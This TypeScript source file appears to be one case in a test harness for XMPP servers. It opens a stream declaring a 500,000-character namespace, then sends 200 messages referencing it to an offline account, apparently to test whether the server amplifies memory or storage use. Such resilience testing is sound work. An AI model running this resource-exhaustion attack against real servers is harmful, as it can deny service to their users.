import type { Attack } from "../attack.ts";
import type { AttackContext } from "../attack-context.ts";
import type { Attacker } from "../attacker.ts";

const STREAMS = "http://etherx.jabber.org/streams";

/** A session whose stream's root declares a namespace of this length. Throws where the server does not take it. */
async function declaring(stage: AttackContext, username: string, length: number): Promise<Attacker> {
  const client = await stage.stranger();
  client.openStream = async () => {
    client.expectHeader();
    const namespaces = `xmlns='jabber:client' xmlns:stream='${STREAMS}' xmlns:p='u:${"A".repeat(length)}'`;
    const header = `<stream:stream ${namespaces} to='localhost' version='1.0'>`;
    stage.counts(header.length);
    client.send(header);
    client.features = await client.receive(({ name }) => name === "stream:features");
  };
  await client.login({ username, password: stage.password, resource: "attack" });
  return stage.attacker(client);
}

/** Says `text` so many times, on a root of half a megabyte or, where that is refused, of the most that is not. */
async function declared(stage: AttackContext, username: string, count: number, text: string): Promise<string> {
  let refusal = "";
  for (const length of [500_000, 900]) {
    try {
      const attacker = await declaring(stage, username, length);
      attacker.says(text.repeat(count));
      await attacker.isHeard();
      return `${refusal}root of ${length.toLocaleString("en")}: ${attacker.answers()}`;
    } catch (error) {
      refusal = `root of ${length.toLocaleString("en")}: ${error instanceof Error ? error.message.slice(0, 60) : error}; `;
    }
  }
  return refusal;
}

export const declarations: Attack = {
  name: "declarations",
  about:
    "a stream's root declares a namespace of 500,000 characters; then 200 messages of 75 bytes, each with one element of it, to somebody who is away.",
  accounts: ["tybalt", "juliet"],
  play: async (stage) => {
    await stage.begins();
    const text = "<message to='juliet@localhost' type='chat'><body>x</body><p:a/></message>";
    return declared(stage, "tybalt", 200, text);
  },
};
